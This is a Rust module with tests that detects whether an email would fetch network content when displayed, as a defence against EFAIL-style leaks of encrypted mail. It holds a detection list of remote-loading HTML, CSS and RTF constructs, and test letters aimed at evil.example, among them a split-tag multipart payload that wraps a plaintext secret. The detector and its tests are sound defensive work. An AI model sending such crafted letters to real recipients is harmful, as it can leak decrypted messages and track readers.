//! Whether a letter would access the network when it is displayed: pictures, style sheets, frames, forms, external bodies. For
//! letters that may have been changed in transit (EFAIL, <https://efail.de>): a yes keeps such a letter encrypted, so anything
//! undecidable is a yes. Knows no cryptography.

use crate::mime::Entity;

/// Nesting depth of parts.
const MAX_DEPTH: usize = 20;

/// Types without active content: plain text, and pictures that consist of pixels only. The others in this list are files that have
/// to be opened explicitly.
const STILL: &[&str] = &[
    "text/plain",
    "image/png",
    "image/jpeg",
    "image/jpg",
    "image/pjpeg",
    "image/gif",
    "image/bmp",
    "image/webp",
    "image/tiff",
    "image/heic",
    "application/pdf",
    "application/zip",
    "application/x-zip-compressed",
    "application/msword",
];
const STILL_FAMILIES: &[&str] = &["application/vnd.", "audio/", "video/"];
/// Status fields, which are not displayed as a page.
const REPORTS: &[&str] = &[
    "message/delivery-status",
    "message/disposition-notification",
    "message/feedback-report",
    "message/global-delivery-status",
    "message/global-disposition-notification",
];

/// The form of a text, by its type or its beginning.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
enum Form {
    /// Without active content, or a file.
    Still,
    /// HTML, or unknown.
    Page,
    Xml,
    Rich,
    Markdown,
    /// vCard and iCalendar.
    Lines,
    /// It names external content, or Outlook opens it specially.
    Asks,
}

/// Constructs by which a page accesses the network, without the white space that HTML allows in them. `src=` and `data=` are
/// checked separately.
const ASKS: &[&str] = &[
    "srcset=",
    "background=",
    "poster=",
    "action=",
    "lowsrc=",
    "dynsrc=",
    "xlink:",
    "ping=",
    "manifest=",
    "codebase=",
    "classid=",
    "archive=",
    "url(",
    "image(",
    "image-set(",
    "src(",
    "@import",
    "@\\",
    "expression(",
    "behavior:",
    "-moz-binding",
    "<link",
    "<base",
    "<form",
    "<object",
    "<embed",
    "<iframe",
    "<frame",
    "<applet",
    "<script",
    "<svg",
    "<math",
    "<video",
    "<audio",
    "<layer",
    "<bgsound",
    "<portal",
    "<?xml-stylesheet",
    "<!entity",
    "refresh",
    "dns-prefetch",
    "javascript:",
    "vbscript:",
    "onload=",
    "onerror=",
    "utf-7",
];
/// Attributes with an address, which may refer to the letter itself.
const ADDRESSES: &[&str] = &["src=", "data=", "src:"];

/// Whether it does, or this cannot be decided.
pub(crate) fn reaches_out(letter: &[u8]) -> bool {
    entity(letter, 0)
}

fn entity(bytes: &[u8], depth: usize) -> bool {
    let Some(entity) = Entity::parse(bytes) else { return true };
    if depth > MAX_DEPTH {
        return true;
    }
    let content_type = entity.content_type();
    let essence = match (content_type.essence.as_str(), entity.head.count("Content-Type")) {
        ("", 0) => "text/plain",
        (essence, 1) => essence,
        // Two Content-Type fields are ambiguous.
        (_, _) => return true,
    };
    if content_type.is_multipart() {
        // An ambiguous multipart may be split in another way by other programs.
        return entity.parts().is_none_or(|parts| parts.iter().any(|part| self::entity(part, depth + 1)));
    }
    let Some(content) = entity.decoded() else { return true };
    if matches!(essence, "message/rfc822" | "message/global" | "message/news") {
        return self::entity(&content, depth + 1);
    }
    let ascii = content_type.parameter("charset").is_none_or(|charset| {
        let charset = charset.to_ascii_lowercase();
        ["utf-8", "us-ascii", "ascii", "iso-8859-", "windows-125", "cp125", "koi8-"]
            .iter()
            .any(|known| charset.starts_with(known))
    });
    // Some programs go by its type, others by its beginning: it must be harmless for both.
    let forms = [by_type(essence, &content), by_start(&content)];
    let is_text = forms.iter().any(|form| *form != Form::Still);
    (is_text && !ascii) || forms.iter().any(|form| form.asks(&content))
}

impl Form {
    /// Whether content of this form accesses the network.
    fn asks(self, content: &[u8]) -> bool {
        match self {
            Self::Still => false,
            Self::Page => page(content),
            // A document type may name an external file.
            Self::Xml => page(content) || has(content, &["<!doctype", "xi:include"]),
            // Not checked as a page: its style sheets and backslashes would always give a yes.
            Self::Rich => has(content, RICH),
            Self::Markdown => page(content) || has(content, &["!["]),
            Self::Lines => page(content) || lines(content),
            Self::Asks => true,
        }
    }
}

/// Whether it begins like this, after a byte order mark and white space.
fn begins(content: &[u8], mark: &[u8]) -> bool {
    let start = content.strip_prefix(b"\xef\xbb\xbf").unwrap_or(content).trim_ascii_start();
    start.get(..mark.len()).is_some_and(|start| start.eq_ignore_ascii_case(mark))
}

/// Its form for programs that go by the beginning.
fn by_start(content: &[u8]) -> Form {
    if begins(content, b"{\\rtf") {
        Form::Rich
    } else if begins(content, &TNEF) {
        Form::Asks
    } else {
        Form::Still
    }
}

fn by_type(essence: &str, content: &[u8]) -> Form {
    let poses = begins(content, b"<");
    let is_card = begins(content, b"BEGIN:VC");
    match essence {
        _ if poses && (essence == "text/plain" || RICH_TYPES.contains(&essence)) => Form::Page,
        "text/plain" => Form::Still,
        // RFC 2046 §5.2.2, §5.2.3: the rest of it is elsewhere. The effect of other types is unknown.
        _ if essence.starts_with("message/") && !REPORTS.contains(&essence) => Form::Asks,
        "application/ms-tnef" | "application/vnd.ms-tnef" => Form::Asks,
        _ if RICH_TYPES.contains(&essence) => Form::Rich,
        "text/markdown" | "text/x-markdown" => Form::Markdown,
        "text/calendar" | "application/ics" | "text/x-vcalendar" | "text/vcard" | "text/x-vcard"
        | "application/vcard" | "text/directory" => Form::Lines,
        // Playlists, and presentations.
        _ if essence.contains("mpegurl") || essence.contains("scpls") || essence.contains("smil") => {
            Form::Asks
        }
        _ if is_card => Form::Lines,
        "text/xml" | "application/xml" => Form::Xml,
        _ if essence.ends_with("+xml") => Form::Xml,
        _ if STILL.contains(&essence) => Form::Still,
        _ if STILL_FAMILIES.iter().any(|family| essence.starts_with(family)) => Form::Still,
        _ => Form::Page,
    }
}

const RICH_TYPES: &[&str] = &["text/rtf", "application/rtf", "application/x-rtf", "application/msword-rtf"];

/// MS-OXTNEF §2.1.3.1: the first bytes of a winmail.dat.
const TNEF: [u8; 4] = [0x78, 0x9f, 0x3e, 0x22];

/// What rich text fetches: fields with external pictures or texts, objects, templates, pictures of shapes; and a page that Outlook
/// has wrapped in it.
const RICH: &[&str] = &[
    "includepicture",
    "includetext",
    "\\field",
    "\\object",
    "\\objdata",
    "\\*\\template",
    "\\template",
    "\\filetbl",
    "\\subdocument",
    "\\linkself",
    "pibname",
    "mailmerge",
    "\\fromhtml",
];

/// Properties of vCard (RFC 6350) and iCalendar (RFC 5545, RFC 7986) that contain media, or name its location.
const CARRIERS: &[&str] = &["photo", "logo", "sound", "key", "image", "attach", "source"];

/// Whether one of them names an external location.
fn lines(content: &[u8]) -> bool {
    let text = String::from_utf8_lossy(content).replace("\r\n", "\n").replace("\n ", "").replace("\n\t", "");
    text.split(['\n', '\r']).any(|line| {
        let line = line.trim().to_ascii_lowercase();
        let Some((name, value)) = line.find([';', ':']).and_then(|at| line.split_at_checked(at)) else {
            return false;
        };
        // A group may precede it: `item1.PHOTO`.
        let name = name.rsplit('.').next().unwrap_or_default().trim();
        let (how, data) = value.split_once(':').unwrap_or_default();
        let is_binary = how.contains("encoding=b") || how.contains("value=binary");
        let is_base64 = data.bytes().all(|byte| byte.is_ascii_alphanumeric() || b"+/= \t".contains(&byte));
        let is_here = (is_binary && is_base64) || data.starts_with("data:") || data.starts_with("cid:");
        let is_elsewhere = value.contains("://") || value.contains(":\\\\") || value.contains("=ur");
        CARRIERS.contains(&name) && (is_elsewhere || !is_here)
    })
}

/// Whether this page accesses the network. Not parsed like in a browser: half of it may be noise, which every browser parses
/// differently.
fn page(content: &[u8]) -> bool {
    let squeezed = squeezed(content);
    let has = |word: &str| memchr::memmem::find(&squeezed, word.as_bytes()).is_some();
    // A style may be written with escapes (CSS Syntax §4.3.7): `\75rl(`.
    let escapes = (has("style")) && squeezed.contains(&b'\\');
    escapes || ASKS.iter().any(|word| has(word)) || ADDRESSES.iter().any(|word| elsewhere(&squeezed, word))
}

/// Lower case, without white space.
fn squeezed(content: &[u8]) -> Vec<u8> {
    content
        .iter()
        .filter(|byte| !byte.is_ascii_whitespace() && !byte.is_ascii_control())
        .map(u8::to_ascii_lowercase)
        .collect()
}

fn has(content: &[u8], words: &[&str]) -> bool {
    let squeezed = squeezed(content);
    words.iter().any(|word| memchr::memmem::find(&squeezed, word.as_bytes()).is_some())
}

/// Whether one of these attributes refers to something outside the letter (RFC 2392).
fn elsewhere(page: &[u8], attribute: &str) -> bool {
    memchr::memmem::find_iter(page, attribute.as_bytes()).any(|at| {
        let value = page.get(at + attribute.len()..).unwrap_or_default();
        let value = match value {
            [b'"' | b'\'', rest @ ..] => rest,
            other => other,
        };
        !value.starts_with(b"cid:")
    })
}

#[cfg(test)]
mod tests {
    use super::*;

    fn html(page: &str) -> Vec<u8> {
        format!("Content-Type: text/html; charset=utf-8\r\n\r\n{page}\r\n").into_bytes()
    }

    #[test]
    fn pages_that_ask_for_something_are_told_from_those_that_do_not() {
        for asks in [
            "<img src=http://evil.example/",
            "<img\r\nsrc\t=\r\n\"//evil.example/",
            "<IMG/SRC='http://evil.example/",
            "<img srcset=\"http://evil.example/",
            "<div style=\"background:url(http://evil.example/)\">",
            "<div style=\"background:u\\72l(http://evil.example/)\">",
            "<style>@import 'http://evil.example/';</style>",
            "<style>a{b:c}</style><p style='x:\\75rl(//evil)'>",
            "<link rel=stylesheet href=//evil.example/>",
            "<form action=http://evil.example/><textarea name=x>",
            "<meta http-equiv=refresh content='0;url=http://evil.example/'>",
            "<table background=\"http://evil.example/",
            "<video poster=http://evil.example/>",
            "<object data=http://evil.example/>",
            "<base href=http://evil.example/><img src=cid:x>",
            "<svg><image xlink:href=http://evil.example/ /></svg>",
            "<img src=\"cid:x\"><img src=http://evil.example/>",
        ] {
            assert!(reaches_out(&html(asks)), "{asks}");
        }
        for still in [
            "<p>Guten Tag</p>",
            "<html><head><meta name=Generator content=\"Microsoft Word\"><style>p{margin:0}</style></head></html>",
            "<img src=\"cid:logo@clinic.example\">",
            "<a href=\"https://clinic.example/\">clinic</a>",
        ] {
            assert!(!reaches_out(&html(still)), "{still}");
        }
    }

    #[test]
    fn what_nobody_can_tell_is_a_yes() {
        let pixel = "<img src=http://evil.example/>";
        for letter in [
            format!("Content-Type: text/plain\r\nContent-Type: text/html\r\n\r\n{pixel}"),
            format!("Content-Type: text/html\r\nContent-Transfer-Encoding: x-odd\r\n\r\n{pixel}"),
            "Content-Type: text/html\r\nContent-Transfer-Encoding: base64\r\n\r\nPGltZyBzcmM9aHR0cDovL2V2aWwv\r\n".to_owned(),
            "Content-Type: text/html; charset=utf-7\r\n\r\n+ADw-img\r\n".to_owned(),
            "Content-Type: text/html; charset=utf-16\r\n\r\nx\r\n".to_owned(),
            format!("Content-Type: text/plain\r\n\r\n  <html>{pixel}"),
            format!("Content-Type: application/octet-stream; name=a.html\r\n\r\n{pixel}"),
            format!("Content-Type: image/svg+xml\r\n\r\n<svg>{pixel}"),
            format!("Content-Type: message/rfc822\r\n\r\nContent-Type: text/html\r\n\r\n{pixel}"),
            // The tag in two parts.
            "Content-Type: multipart/mixed; boundary=b\r\n\r\n--b\r\nContent-Type: text/html\r\n\r\n<img src=\"http://evil/\r\n\
             --b\r\nContent-Type: text/plain\r\n\r\nsecret\r\n--b\r\nContent-Type: text/html\r\n\r\n\">\r\n--b--\r\n".to_owned(),
            format!("Content-Type: multipart/mixed; boundary=b\r\n\r\n--b\r\nContent-Type: text/html\r\n\r\n{pixel}"),
        ] {
            assert!(reaches_out(letter.as_bytes()), "{letter}");
        }
        assert!(!reaches_out(format!("Content-Type: text/plain\r\n\r\nwrite {pixel} in it").as_bytes()));
        assert!(!reaches_out(b"Subject: x\r\n\r\nplain\r\n"));
    }

    fn typed(kind: &str, content: &str) -> Vec<u8> {
        format!("Content-Type: {kind}\r\n\r\n{content}\r\n").into_bytes()
    }

    #[test]
    fn what_is_no_page_and_asks_the_network_reaches_out() {
        let uri = "http://evil.example/x";
        for (kind, content) in [
            (
                r#"message/external-body; access-type=URL; URL="http://evil.example/x""#,
                "Content-Type: text/plain\r\n\r\n".to_owned(),
            ),
            ("message/external-body; access-type=mail-server; server=\"a@evil.example\"", String::new()),
            ("message/partial; id=x; number=1", String::new()),
            ("message/x-other", String::new()),
            ("text/rtf", format!("{{\\rtf1 {{\\field{{\\*\\fldinst INCLUDEPICTURE \"{uri}\"}}}}}}")),
            ("application/rtf", format!("{{\\rtf1{{\\*\\template {uri}}}}}")),
            ("text/plain", format!("{{\\rtf1 {{\\field{{\\*\\fldinst INCLUDEPICTURE \"{uri}\"}}}}}}")),
            ("application/msword", "{\\rtf1{\\object\\objautlink}}".to_owned()),
            ("text/vcard", format!("BEGIN:VCARD\r\nPHOTO;VALUE=uri:{uri}\r\nEND:VCARD")),
            ("text/vcard", format!("BEGIN:VCARD\r\nPHO\r\n TO:{uri}\r\nEND:VCARD")),
            ("text/vcard", "BEGIN:VCARD\r\nPHOTO;ENCODING=b:http:evil.example/x\r\nEND:VCARD".to_owned()),
            ("text/vcard", "BEGIN:VCARD\r\nPHOTO:http:evil.example/x?:cid:\r\nEND:VCARD".to_owned()),
            ("text/x-vcard", format!("BEGIN:VCARD\r\nitem1.LOGO;TYPE=png:{uri}\r\nEND:VCARD")),
            ("application/octet-stream; name=a.vcf", format!("BEGIN:VCARD\r\nSOUND:{uri}\r\nEND:VCARD")),
            (
                "text/calendar",
                format!("BEGIN:VCALENDAR\r\nIMAGE;VALUE=URI;DISPLAY=BADGE:{uri}\r\nEND:VCALENDAR"),
            ),
            ("text/calendar", format!("BEGIN:VCALENDAR\r\nATTACH:{uri}\r\nEND:VCALENDAR")),
            ("text/markdown", format!("![x]({uri})")),
            ("application/xml", format!("<!DOCTYPE x SYSTEM \"{uri}\"><x/>")),
            ("application/vnd.wap.xhtml+xml", format!("<img src=\"{uri}\">")),
            ("application/vnd.ms-tnef", String::new()),
            ("application/vnd.apple.mpegurl", format!("#EXTM3U\r\n{uri}")),
            ("audio/x-mpegurl", uri.to_owned()),
        ] {
            assert!(reaches_out(&typed(kind, &content)), "{kind}: {content}");
            let within = [
                b"Content-Type: multipart/mixed; boundary=b\r\n\r\n--b\r\n".as_slice(),
                &typed(kind, &content),
                b"--b--\r\n",
            ]
            .concat();
            assert!(reaches_out(&within), "{kind} within");
        }
    }

    #[test]
    fn what_begins_like_rich_text_is_still_what_its_type_says() {
        let pixel = "<img src=\"http://evil.example/x\">";
        for (kind, content) in [
            ("text/html", format!("{{\\rtf{pixel}")),
            ("text/html", format!("\u{feff} \r\n{{\\RTF1 {pixel}")),
            ("text/html", "{\\rtf<p style=\"background:u\\72l(http://evil.example/x)\">".to_owned()),
            ("application/octet-stream; name=a.html", format!("{{\\rtf{pixel}")),
            ("application/xml", "{\\rtf<!DOCTYPE x SYSTEM \"http://evil.example/x\">".to_owned()),
            ("image/svg+xml", format!("{{\\rtf<svg>{pixel}")),
            ("text/markdown", "{\\rtf\n![x](http://evil.example/x)".to_owned()),
            ("text/vcard", "{\\rtf\r\nBEGIN:VCARD\r\nPHOTO:http://evil.example/x".to_owned()),
            ("audio/x-mpegurl", "{\\rtf\r\nhttp://evil.example/x".to_owned()),
            ("audio/x-mpegurl", "BEGIN:VC\r\nhttp://evil.example/x".to_owned()),
            ("message/external-body; access-type=URL", "{\\rtf".to_owned()),
            ("text/rtf", pixel.to_owned()),
            ("text/rtf", "{\\rtf1\\ansi\\fromhtml1 {\\*\\htmltag64 <p>}}".to_owned()),
        ] {
            assert!(reaches_out(&typed(kind, &content)), "{kind}: {content}");
        }
        let rich = "{\\rtf1\\ansi{\\stylesheet{\\s0 Standard;}}\\f0 Guten Tag\\par}";
        for kind in ["text/rtf", "application/rtf", "text/plain", "application/msword"] {
            assert!(!reaches_out(&typed(kind, rich)), "{kind}");
        }
    }

    #[test]
    fn ordinary_files_and_cards_do_not() {
        for (kind, content) in [
            (
                "text/rtf",
                "{\\rtf1\\ansi{\\fonttbl{\\f0 Arial;}}{\\stylesheet{\\s0 Standard;}}\\f0 Guten Tag, http://clinic.example/\\par}",
            ),
            (
                "text/vcard",
                "BEGIN:VCARD\r\nFN:Anna\r\nURL:https://clinic.example/\r\nPHOTO;ENCODING=b;TYPE=JPEG:/9j/4AAQ//8\r\nEND:VCARD",
            ),
            (
                "text/vcard",
                "BEGIN:VCARD\r\nVERSION:4.0\r\nPHOTO:data:image/jpeg;base64,/9j/4AAQ//8\r\nEND:VCARD",
            ),
            (
                "text/calendar",
                "BEGIN:VCALENDAR\r\nSUMMARY:Termin\r\nLOCATION:https://meet.clinic.example/7\r\nURL:https://clinic.example/\r\nEND:VCALENDAR",
            ),
            (
                "application/xml",
                "<?xml version=\"1.0\"?><Invoice xmlns=\"urn:oasis:names:x\"><ID>7</ID></Invoice>",
            ),
            ("message/delivery-status", "Reporting-MTA: dns; mx.clinic.example"),
            ("message/disposition-notification", "Final-Recipient: rfc822; a@clinic.example"),
            ("application/pdf; name=a.pdf", "%PDF-1.7 http://clinic.example/"),
            (
                "application/vnd.openxmlformats-officedocument.wordprocessingml.document",
                "PK\u{3}\u{4}http://clinic.example/",
            ),
            ("application/octet-stream; name=a.bin", "\u{1}\u{2}"),
            ("application/pkcs7-signature", "MIIB"),
            ("text/csv", "a;b"),
            ("audio/mpeg", "ID3"),
        ] {
            assert!(!reaches_out(&typed(kind, content)), "{kind}: {content}");
        }
    }
}
